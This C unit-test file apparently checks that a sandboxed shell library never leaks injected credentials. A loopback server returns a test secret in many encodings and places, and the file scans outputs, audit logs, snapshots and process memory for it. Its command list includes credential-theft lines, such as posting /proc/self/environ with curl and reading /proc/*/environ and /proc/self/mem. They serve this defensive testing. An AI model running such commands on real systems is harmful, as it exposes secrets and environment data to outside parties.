/* Every way we know to make a shell say a secret, against a server that helps: output channels, encodings, chunk borders, variables, files,
 * snapshots, descriptions, audit, the memory of the process. The server is a process of its own; the secret stands nowhere in this one but
 * where the shell put it. */
#include <arpa/inet.h>
#include <setjmp.h>
#include <signal.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <unistd.h>

#include <cmocka.h>

#include "include/shell.h"
#include "lib/base/base.h"
#include "test/components.h"

enum { SECRET = 20, MASK = 0x5a };
static const unsigned char masked[SECRET] = {'s' ^ MASK, '3' ^ MASK, 'c' ^ MASK, 'r' ^ MASK, '3' ^ MASK, 't' ^ MASK, '/' ^ MASK, 'T' ^ MASK, '0' ^ MASK, 'k' ^ MASK,
                                             '+' ^ MASK, 'n' ^ MASK, '"' ^ MASK, 'Q' ^ MASK, '~' ^ MASK, '&' ^ MASK, '7' ^ MASK, 'z' ^ MASK, '=' ^ MASK, 'W' ^ MASK};

static void unmask(char out[SECRET + 1])
{
    for (int i = 0; i < SECRET; i++)
        out[i] = (char)(masked[i] ^ MASK);
    out[SECRET] = 0;
}

/* ---------- forms ---------- */

static void base64(char *out, const char *in, size_t n, bool url)
{
    const char *digits = url ? "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_" : "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    for (size_t i = 0; i < n; i += 3) {
        unsigned v = (unsigned)(unsigned char)in[i] << 16;
        v |= i + 1 < n ? (unsigned)(unsigned char)in[i + 1] << 8 : 0;
        v |= i + 2 < n ? (unsigned)(unsigned char)in[i + 2] : 0;
        for (size_t k = 0; k < 4; k++)
            *out++ = k > n - i ? '=' : digits[v >> (18 - 6 * k) & 63];
    }
    *out = 0;
}

static void put_each(char *out, const char *in, const char *format)
{
    for (; *in; in++)
#pragma GCC diagnostic push
#pragma GCC diagnostic ignored "-Wformat-nonliteral"
        out += sprintf(out, format, (unsigned)(unsigned char)*in);
#pragma GCC diagnostic pop
    *out = 0;
}

static void percent(char *out, const char *in, const char *format)
{
    for (; *in; in++) {
        bool plain = (*in >= '0' && *in <= '9') || ((*in | 32) >= 'a' && (*in | 32) <= 'z') || strchr("-._~", *in);
        char one[2] = {*in, 0};
        put_each(out, one, plain ? "%c" : format);
        out += strlen(out);
    }
}

/* Form number n of the secret; false: there are no more. */
static bool form(int n, char *out)
{
    char s[64] = "xy";
    unmask(s + 2);
    const char *bare = s + 2;
    switch (n) {
    case 0: strcpy(out, bare); break;
    case 1: base64(out, bare, SECRET, false); break;
    case 2: base64(out, s + 1, SECRET + 1, false); break;
    case 3: base64(out, s, SECRET + 2, false); break;
    case 4: base64(out, bare, SECRET, true); break;
    case 5: base64(out, s + 1, SECRET + 1, true); break;
    case 6: base64(out, s, SECRET + 2, true); break;
    case 7: put_each(out, bare, "%02x"); break;
    case 8: put_each(out, bare, "%02X"); break;
    case 9: put_each(out, bare, ":%02x"); break;
    case 10: put_each(out, bare, "\\x%02x"); break;
    case 11: put_each(out, bare, "%%%02x"); break;
    case 12: percent(out, bare, "%%%02X"); break;
    case 13: percent(out, bare, "%%%02x"); break;
    case 14: put_each(out, bare, "\\u%04x"); break;
    case 15: {
        for (const char *c = bare; *c; c++) {
            if (*c == '"')
                *out++ = '\\';
            *out++ = *c;
        }
        *out = 0;
        break;
    }
    default: return false;
    }
    explicit_bzero(s, sizeof s);
    return true;
}

enum { FORMS = 16 };

/* ---------- the server: knows the secret and says it in every way ---------- */

static void say(int fd, const char *text, size_t n)
{
    while (n) {
        ssize_t k = send(fd, text, n, MSG_NOSIGNAL);
        if (k <= 0)
            return;
        text += k;
        n -= (size_t)k;
    }
}

static void says(int fd, const char *text) { say(fd, text, strlen(text)); }

static bool head_only; /* the request was HEAD: no body follows */

static void reply(int fd, const char *status, const char *headers, const char *body, size_t n)
{
    char head[8192];
    snprintf(head, sizeof head, "HTTP/1.1 %s\r\n%sContent-Length: %zu\r\n\r\n", status, headers, n);
    says(fd, head);
    if (!head_only)
        say(fd, body, n);
}

static void chunked(int fd, const char *body, size_t n, size_t size, const char *trailer)
{
    char line[32];
    says(fd, "HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\nTrailer: X-Leak\r\n\r\n");
    for (size_t i = 0; i < n; i += size) {
        size_t k = MIN(size, n - i);
        snprintf(line, sizeof line, "%zx\r\n", k);
        says(fd, line);
        say(fd, body + i, k);
        says(fd, "\r\n");
        if (size < 4)
            usleep(2000); /* so that the pieces come alone */
    }
    says(fd, "0\r\n");
    says(fd, trailer);
    says(fd, "\r\n");
}

/* gzip with fixed Huffman codes: the secret's bytes are nowhere in it. Literals below 144 only. */
static size_t squeeze(unsigned char *out, const char *s)
{
    static const unsigned char head[10] = {0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3};
    uint32_t crc = 0xffffffffu, bits = 3, have = 3, len = (uint32_t)strlen(s);
    size_t n = 10;
    memcpy(out, head, 10);
    for (const char *c = s;; c++) {
        unsigned code = *c ? 0x30u + (unsigned char)*c : 0, width = *c ? 8 : 7;
        for (unsigned k = width; k--;) {
            bits |= (code >> k & 1) << have++;
            if (have == 8) {
                out[n++] = (unsigned char)bits;
                bits = have = 0;
            }
        }
        if (!*c)
            break;
        crc ^= (unsigned char)*c;
        for (int k = 0; k < 8; k++)
            crc = crc >> 1 ^ (crc & 1 ? 0xedb88320u : 0);
    }
    out[n++] = (unsigned char)bits;
    crc = ~crc;
    memcpy(out + n, &crc, 4);
    memcpy(out + n + 4, &len, 4);
    return n + 8;
}

static void serve_one(int fd, const char *path, const char *request)
{
    char secret[SECRET + 1], text[4096], head[8192];
    int n = 0;
    unmask(secret);
    if (sscanf(path, "/s/form/%d", &n) == 1 && form(n, text)) {
        reply(fd, "200 OK", "", text, strlen(text));
    } else if (sscanf(path, "/s/chunk/%d", &n) == 1) {
        snprintf(text, sizeof text, "before %s after %s end", secret, secret);
        chunked(fd, text, strlen(text), (size_t)n, "");
    } else if (strncmp(path, "/s/header", 9) == 0) {
        snprintf(head, sizeof head, "X-Leak: %s\r\nX-Again: a%sb\r\n", secret, secret);
        reply(fd, "200 OK", head, "body\n", 5);
    } else if (strncmp(path, "/s/name", 7) == 0) {
        snprintf(head, sizeof head, "X-s3cr3t: %.10s\r\n\t%s\r\n", secret, secret + 10);
        reply(fd, "200 OK", head, "body\n", 5);
    } else if (strncmp(path, "/s/cookie", 9) == 0) {
        form(7, text);
        snprintf(head, sizeof head, "Set-Cookie: a=%s; Path=/\r\n", text);
        reply(fd, "200 OK", head, "body\n", 5);
    } else if (strncmp(path, "/s/reason", 9) == 0) {
        snprintf(head, sizeof head, "404 %s", secret);
        reply(fd, head, "", "body\n", 5);
    } else if (strncmp(path, "/s/location", 11) == 0) {
        percent(text, secret, "%%%02X");
        snprintf(head, sizeof head, "Location: /open?%s\r\n", text);
        reply(fd, "302 Found", head, "moved\n", 6);
    } else if (strncmp(path, "/s/cross", 8) == 0) {
        percent(text, secret, "%%%02X");
        snprintf(head, sizeof head, "Location: http://localhost:%s/open?%s\r\n", strchr(path, '?') + 1, text);
        reply(fd, "302 Found", head, "moved\n", 6);
    } else if (strncmp(path, "/s/trailer", 10) == 0) {
        snprintf(head, sizeof head, "X-Leak: %s\r\n", secret);
        chunked(fd, "body\n", 5, 5, head);
    } else if (strncmp(path, "/s/interim", 10) == 0) {
        snprintf(head, sizeof head, "HTTP/1.1 103 Early %s\r\nX-Leak: %s\r\n\r\n", secret, secret);
        says(fd, head);
        reply(fd, "200 OK", "", "body\n", 5);
    } else if (strncmp(path, "/s/gzip", 7) == 0 || strncmp(path, "/s/odd", 6) == 0) {
        size_t k = squeeze((unsigned char *)text, secret);
        reply(fd, "200 OK", path[3] == 'g' ? "Content-Encoding: gzip\r\n" : "Content-Encoding: x-odd\r\n", text, k);
    } else if (strncmp(path, "/s/bare", 7) == 0) {
        says(fd, secret);
        shutdown(fd, SHUT_RDWR);
    } else if (strncmp(path, "/s/cut", 6) == 0) {
        snprintf(head, sizeof head, "HTTP/1.1 200 OK\r\nContent-Length: 900\r\nX-Leak: %s\r\n\r\n%s", secret, secret);
        says(fd, head);
        shutdown(fd, SHUT_RDWR);
    } else {
        reply(fd, "200 OK", strstr(request, secret) ? "X-Knows: yes\r\n" : "X-Knows: no\r\n", request, strlen(request));
    }
}

static void serve_connection(int fd)
{
    char buf[65536], path[4096];
    size_t n = 0;
    for (;;) {
        ssize_t k = recv(fd, buf + n, sizeof buf - n - 1, 0);
        if (k <= 0)
            break;
        n += (size_t)k;
        buf[n] = 0;
        char *end = strstr(buf, "\r\n\r\n");
        const char *length = end ? strstr(buf, "Content-Length: ") : NULL;
        size_t whole = end ? (size_t)(end - buf) + 4 + (length && length < end ? (size_t)atol(length + 16) : 0) : 0;
        if (!end || n < whole)
            continue;
        path[0] = 0;
        sscanf(buf, "%*s %4095s", path);
        char kept = buf[whole];
        buf[whole] = 0;
        head_only = strncmp(buf, "HEAD", 4) == 0;
        serve_one(fd, path, buf);
        buf[whole] = kept;
        memmove(buf, buf + whole, n - whole);
        n -= whole;
    }
    close(fd);
}

static unsigned port;

static int start_server(void **state)
{
    (void)state;
    struct sockaddr_in a = {.sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
    socklen_t n = sizeof a;
    int listener = socket(AF_INET, SOCK_STREAM, 0);
    if (bind(listener, (struct sockaddr *)&a, sizeof a) != 0 || listen(listener, 64) != 0)
        return -1;
    getsockname(listener, (struct sockaddr *)&a, &n);
    port = ntohs(a.sin_port);
    if (fork() == 0) {
        prctl(PR_SET_PDEATHSIG, SIGKILL);
        signal(SIGCHLD, SIG_IGN);
        for (;;) {
            int fd = accept(listener, NULL, NULL);
            if (fork() == 0) {
                serve_connection(fd);
                _exit(0);
            }
            close(fd);
        }
    }
    close(listener);
    return 0;
}

/* ---------- looking ---------- */

static bool has(const char *text, size_t n, const char *needle, size_t k, bool fold)
{
    for (size_t i = 0; i + k <= n; i++) {
        size_t m = 0;
        while (m < k && (text[i + m] == needle[m] || (fold && (text[i + m] | 32) == (needle[m] | 32))))
            m++;
        if (m == k)
            return true;
    }
    return false;
}

/* Which form stands in `text`, or -1. Base64's first and last digits may belong to a neighbour. */
static int found(const char *text, size_t n)
{
    char needle[512];
    for (int f = 0; form(f, needle); f++) {
        size_t k = strlen(needle), cut = f >= 1 && f <= 6 ? 4 : 0;
        bool there = has(text, n, needle + cut, k - cut - (cut ? 4 : 0), f >= 7);
        explicit_bzero(needle, sizeof needle);
        if (there)
            return f;
    }
    return -1;
}

static shell *open_shell(void)
{
    static char url[8][128];
    char secret[SECRET + 1];
    shell_options o;
    shell *sh;
    shell_options_init(&o);
    const char *const paths[] = {"/s/", "/q/", "/b/", "/h/", "/p/"};
    for (int i = 0; i < 5; i++)
        snprintf(url[i], sizeof url[i], "http://127.0.0.1:%u%s", port, paths[i]);
    snprintf(url[5], sizeof url[5], "http://127.0.0.1:%u", port);
    snprintf(url[6], sizeof url[6], "http://localhost:%u", port);
    snprintf(url[7], sizeof url[7], "U=http://127.0.0.1:%u", port);
    unmask(secret);
    char pair[64];
    snprintf(pair, sizeof pair, "me:%s", secret);
    shell_credential creds[] = {
        {.size = sizeof creds[0], .url = url[0], .kind = SHELL_CRED_BEARER, .secret = secret, .secret_len = SECRET},
        {.size = sizeof creds[0], .url = url[1], .kind = SHELL_CRED_QUERY, .name = "key", .secret = secret, .secret_len = SECRET},
        {.size = sizeof creds[0], .url = url[2], .kind = SHELL_CRED_BASIC, .secret = pair, .secret_len = strlen(pair)},
        {.size = sizeof creds[0], .url = url[3], .kind = SHELL_CRED_HEADER, .name = "X-Key", .secret = secret, .secret_len = SECRET},
        {.size = sizeof creds[0], .url = url[4], .kind = SHELL_CRED_PLACEHOLDER, .name = "TOKEN", .secret = secret, .secret_len = SECRET}};
    shell_url_rule rules[] = {{.size = sizeof rules[0], .url = url[5], .allow_private = 1}, {.size = sizeof rules[0], .url = url[6], .allow_private = 1}};
    shell_net net = {.size = sizeof net, .rules = rules, .nrules = 2, .credentials = creds, .ncredentials = 5};
    const char *env[] = {url[7], NULL};
    shell_audit audit = {.size = sizeof audit, .ring = 4 << 20, .output = 65536};
    o.component = test_component;
    o.net = &net;
    o.env = env;
    o.audit = &audit;
    o.cwd = "/tmp";
    assert_int_equal(shell_open(&o, &sh), SHELL_OK);
    explicit_bzero(secret, sizeof secret);
    explicit_bzero(pair, sizeof pair);
    return sh;
}

/* threat CRD-13, threat CRD-14: each line is one way. What begins with "+" must get an answer of status 0; "knows": the server must have had the secret. */
static const char *const ways[] = {
    "+curl -s $U/s/form/0", "+curl -si $U/s/form/0", "+curl -sv $U/s/form/0", "+curl -sv -o /dev/null $U/s/header", "+curl -s -o f $U/s/form/0; cat f; rm f", "+curl -s --stderr e -v $U/s/header; cat e",
    "+curl -s $U/s/form/1", "+curl -s $U/s/form/2", "+curl -s $U/s/form/3", "+curl -s $U/s/form/4", "+curl -s $U/s/form/5", "+curl -s $U/s/form/6", "+curl -s $U/s/form/7", "+curl -s $U/s/form/8",
    "+curl -s $U/s/form/9", "+curl -s $U/s/form/10", "+curl -s $U/s/form/11", "+curl -s $U/s/form/12", "+curl -s $U/s/form/13", "+curl -s $U/s/form/14", "+curl -s $U/s/form/15",
    "+curl -s $U/s/form/1 | base64 -d 2>/dev/null; true", "+curl -s $U/s/form/7 | xxd -r -p", "+curl -s $U/s/form/0 | xxd -p", "+curl -s $U/s/form/0 | tee f | rev; cat f", "+x=$(curl -s $U/s/form/0); declare -p x; echo \"$x\"",
    "+curl -s $U/s/chunk/1", "+curl -s $U/s/chunk/2", "+curl -s $U/s/chunk/3", "+curl -s $U/s/chunk/5", "+curl -s $U/s/chunk/7", "+curl -s $U/s/chunk/11", "+curl -s $U/s/chunk/13", "+curl -s $U/s/chunk/19",
    "+curl -sN $U/s/chunk/17 | while read -rn 1 c; do echo -n \"$c\"; done", "+curl -s -D - -o /dev/null $U/s/header", "+curl -s -D h $U/s/header; cat h", "+curl -s -w '%{header_json}' $U/s/header",
    "+curl -s -w '%header{x-leak} %header{x-again}' $U/s/header", "+curl -s -w '%{json}' $U/s/header", "+curl -sI $U/s/header", "+curl -sv $U/s/name", "+curl -s -c - $U/s/cookie", "+curl -s -c jar $U/s/cookie; cat jar; curl -s -b jar $U/open",
    "+curl -s -i $U/s/reason", "+curl -sv $U/s/reason", "curl -sf -w '%{errormsg}' $U/s/reason", "curl -sSf $U/s/reason", "+curl -s -w '%{redirect_url}' $U/s/location", "+curl -sv $U/s/location", "+curl -sL $U/s/location",
    "curl -sSL \"$U/s/cross?${U##*:}\"", "+curl -sL -w '%{url_effective}' $U/s/location", "+curl -si $U/s/trailer", "+curl -sv $U/s/trailer", "+curl -s -D - $U/s/trailer", "+curl -s -w '%header{x-leak}' $U/s/trailer", "+curl -sv $U/s/interim",
    "+curl -si $U/s/interim", "curl -s $U/s/gzip | gunzip -c", "curl -s --compressed $U/s/gzip", "curl -s $U/s/odd | gunzip -c", "curl -s -H 'Accept-Encoding: gzip' $U/s/gzip | zcat", "curl -sS $U/s/bare", "curl -sS --http0.9 $U/s/bare",
    "curl -sSv $U/s/cut", "curl -s -r 0-9 $U/s/form/0", "curl -s -H 'Range: bytes=0-9' $U/s/form/0", "printf x > p; curl -sS -C 1 -o p $U/s/form/0; cat p", "+curl -s $U/s/echo", "+curl -s -X TRACE $U/s/echo", "+curl -s -H 'Authorization: mine' $U/s/echo",
    "+curl -s -u a:b $U/s/echo", "+curl -s --oauth2-bearer x $U/s/echo", "+curl -s -d @/proc/self/environ $U/s/echo", "+curl -sv -d x=1 $U/s/echo", "+curl -s -F a=b $U/s/echo", "+wget -qO- $U/s/echo", "+wget -S -O- $U/s/header", "wget -O- $U/s/reason",
    "+wget -q -O w $U/s/form/0; cat w", "+wget --save-headers -qO- $U/s/header", "+curl -s $U/q/echo", "+curl -sv $U/q/echo", "+curl -s -w '%{url_effective} %{url}' $U/q/echo", "+curl -s \"$U/q/echo?key=mine&a=b\"", "+curl -sv -w '%{json}' $U/b/echo",
    "+curl -s -u x:y $U/b/echo", "+curl -sv $U/h/echo", "+curl -s -H 'x-key: mine' $U/h/echo", "+curl -s -H \"X-Api: $TOKEN\" $U/p/knows", "+curl -s -u \"me:$TOKEN\" $U/p/echo", "+curl -sv -H \"Authorization: Basic $(printf me:$TOKEN | base64)\" $U/p/echo",
    "+curl -s -d \"token=$TOKEN\" $U/p/knows", "+curl -sv -b \"s=$TOKEN\" $U/p/knows", "+curl -s -w '%{url_effective}' \"$U/p/echo?k=$TOKEN\"", "+curl -s -G -d \"k=$TOKEN\" $U/p/echo", "+curl -s -H \"X-Api: $TOKEN\" $U/open", "+echo $TOKEN; printf %s $TOKEN | base64",
    "+set", "+env", "+export -p", "+declare -p", "+history", "+set -x; curl -s $U/s/echo; set +x", "cat /proc/self/environ /proc/self/cmdline", "+cat /proc/*/environ /proc/*/cmdline 2>/dev/null; true", "+cat /proc/self/maps 2>/dev/null; cat /proc/self/mem 2>/dev/null; true",
    "+find / -xdev -type f -size -64k 2>/dev/null | head -n 200 | xargs cat 2>/dev/null | tail -c 60000; true", "+curl --help; wget --help", "+curl -s $U/s/echo & wait", "+trap 'curl -s $U/s/echo' EXIT; (exit 0)", "+eval 'curl -s $U/s/form/0'", "+xargs curl -s <<< $U/s/form/0",
    "+timeout 5 curl -s $U/s/form/0", "+curl -s $U/s/form/0 $U/s/form/1 $U/s/header", "+curl -s \"$U/s/form/[0-15]\"", "+printf 'url=%s/s/form/0\\nsilent\\nverbose\\n' $U | curl -K -"};

static void test_ways(void **state)
{
    (void)state;
    shell *sh = open_shell();
    for (size_t i = 0; i < ARRAY_LEN(ways); i++) {
        const char *script = ways[i] + (ways[i][0] == '+');
        shell_result *r;
        assert_int_equal(shell_run(sh, script, strlen(script), NULL, &r), SHELL_OK);
        int in_out = found(r->out, r->out_len), in_err = found(r->err, r->err_len);
        if (in_out >= 0 || in_err >= 0)
            fail_msg("%s: form %d on its output, %d on its errors", script, in_out, in_err);
        if (ways[i][0] == '+' && r->status)
            fail_msg("%s: status %d: %s", script, r->status, r->err);
        shell_result_free(r);
    }
    printf("%zu ways\n", ARRAY_LEN(ways));
    assert_true(ARRAY_LEN(ways) >= 60);
    char *text;
    uint64_t n, lost;
    assert_int_equal(shell_describe(sh, 0, &text, &n), SHELL_OK);
    assert_int_equal(found(text, n), -1);
    shell_free(text);
    assert_int_equal(shell_audit_take(sh, &text, &n, &lost), SHELL_OK);
    assert_true(n > 1000);
    assert_int_equal(found(text, n), -1);
    shell_free(text);
    assert_int_equal(shell_snapshot(sh, &text, &n), SHELL_OK);
    assert_int_equal(found(text, n), -1);
    shell_free(text);
    shell_close(sh);
}

/* A placeholder reaches the server as the secret, whole and decoded; elsewhere it is what it is. */
static void test_placeholder(void **state)
{
    (void)state;
    static const struct { const char *script, *wanted; } table[] = {
        {"curl -si -H \"X-Api: $TOKEN\" $U/p/x | grep -c 'Knows: yes'", "1\n"}, {"curl -si -d \"a=$TOKEN\" $U/p/x | grep -c 'Knows: yes'", "1\n"}, {"curl -si -b \"a=$TOKEN\" $U/p/x | grep -c 'Knows: yes'", "1\n"},
        {"curl -si -H \"X-Api: $TOKEN\" $U/open | grep -c 'Knows: no'", "1\n"}, {"curl -s -H \"X-Api: $TOKEN\" $U/open | grep -c $TOKEN", "1\n"}, {"curl -si $U/p/x | grep -c 'Knows: no'", "1\n"},
        {"echo ${#TOKEN} ${TOKEN:0:4}", "36 lsh_\n"}, {"a=$(curl -s -o /dev/null -w %{size_request} $U/s/echo); b=$(curl -s -o /dev/null -w %{size_request} $U/x/echo); echo $((a - b))", "27\n"}}; /* Accept-Encoding: identity, and not the secret */
    shell *sh = open_shell();
    for (size_t i = 0; i < ARRAY_LEN(table); i++) {
        shell_result *r;
        assert_int_equal(shell_run(sh, table[i].script, strlen(table[i].script), NULL, &r), SHELL_OK);
        if (strcmp(r->out, table[i].wanted) != 0)
            fail_msg("%s: '%s' %s", table[i].script, r->out, r->err);
        shell_result_free(r);
    }
    shell_close(sh);
}

static int64_t sign(void *user, uint64_t index, const char *method, const char *url, const char *body, uint64_t body_len, char *out, uint64_t size)
{
    (void)user;
    (void)index;
    return snprintf(out, size, "X-Signature: signed-%s-%s-%.*s\nX-When: now", method, strrchr(url, '/') + 1, (int)body_len, body ? body : "");
}

static void test_signing(void **state)
{
    (void)state;
    char url[128];
    shell_options o;
    shell *sh;
    snprintf(url, sizeof url, "http://127.0.0.1:%u", port);
    shell_url_rule rule = {.size = sizeof rule, .url = url, .allow_private = 1};
    shell_credential c = {.size = sizeof c, .url = url, .kind = SHELL_CRED_SIGN};
    shell_net net = {.size = sizeof net, .rules = &rule, .nrules = 1, .credentials = &c, .ncredentials = 1, .sign = sign};
    char env[160];
    snprintf(env, sizeof env, "U=%s", url);
    const char *list[] = {env, NULL};
    shell_options_init(&o);
    o.component = test_component;
    o.net = &net;
    o.env = list;
    assert_int_equal(shell_open(&o, &sh), SHELL_OK);
    shell_result *r;
    static const char script[] = "curl -s -H 'X-Signature: mine' -d abc $U/x";
    assert_int_equal(shell_run(sh, script, strlen(script), NULL, &r), SHELL_OK);
    assert_int_equal(r->status, 0);
    assert_non_null(strstr(r->out, "X-Signature: [redacted]"));
    assert_non_null(strstr(r->out, "X-When: now"));
    assert_null(strstr(r->out, "mine"));
    assert_null(strstr(r->out, "signed-"));
    shell_result_free(r);
    shell_close(sh);
}

/* ---------- the process's memory ---------- */

/* Counts places of readable memory that hold the secret, but for those that a core would leave out. */
static unsigned scan(bool dumped_only)
{
    char line[512];
    unsigned count = 0;
    FILE *maps = fopen("/proc/self/smaps", "r"), *mem = fopen("/proc/self/mem", "r");
    unsigned long from = 0, to = 0;
    bool readable = false;
    assert_non_null(maps);
    assert_non_null(mem);
    setvbuf(maps, NULL, _IONBF, 0);
    static char block[1 << 16];
    while (fgets(line, sizeof line, maps)) {
        char rights[8];
        unsigned long first, last; /* "Anonymous:" begins with a hexadecimal digit too */
        if (sscanf(line, "%lx-%lx %7s", &first, &last, rights) == 3) {
            from = first;
            to = last;
            readable = rights[0] == 'r' && !strstr(line, "[v") && to - from < 1ul << 32; /* AddressSanitizer's shadow has terabytes */
            continue;
        }
        if (strncmp(line, "VmFlags:", 8) != 0 || !readable || (dumped_only && strstr(line, " dd")))
            continue;
        for (unsigned long at = from; at < to; at += sizeof block - SECRET) {
            size_t n = MIN(sizeof block, to - at);
            if (fseek(mem, (long)at, SEEK_SET) != 0 || fread(block, 1, n, mem) != n)
                break;
            for (size_t i = 0; i + SECRET <= n; i++) {
                int k = 0;
                while (k < SECRET && (unsigned char)block[i + (size_t)k] == (masked[k] ^ MASK))
                    k++;
                if (k == SECRET)
                    count++;
            }
        }
    }
    explicit_bzero(block, sizeof block);
    fclose(maps);
    fclose(mem);
    return count;
}

static void test_memory(void **state)
{
    (void)state;
    shell *sh = open_shell();
    assert_int_equal(scan(true), 0); /* held, but not in a core */
    static char *volatile planted; /* the scan would find one */
    planted = malloc(4096);
    unmask(planted + 1000);
    assert_int_equal(scan(true), 1);
    explicit_bzero(planted, 4096);
    free(planted);
    assert_int_equal(scan(true), 0);
    static const char script[] = "curl -s $U/s/echo; curl -s $U/q/echo; curl -s $U/b/echo; curl -s -H \"X: $TOKEN\" $U/p/echo; curl -s $U/s/form/0";
    shell_result *r;
    assert_int_equal(shell_run(sh, script, strlen(script), NULL, &r), SHELL_OK);
    assert_int_equal(r->status, 0);
    shell_result_free(r);
    assert_int_equal(scan(true), 0);
    shell_close(sh);
    assert_int_equal(scan(false), 0);
}

int main(void)
{
    if (!test_component(NULL, "net"))
        return 0;
    const struct CMUnitTest tests[] = {cmocka_unit_test(test_ways), cmocka_unit_test(test_placeholder), cmocka_unit_test(test_signing), cmocka_unit_test(test_memory)};
    return cmocka_run_group_tests(tests, start_server, NULL);
}
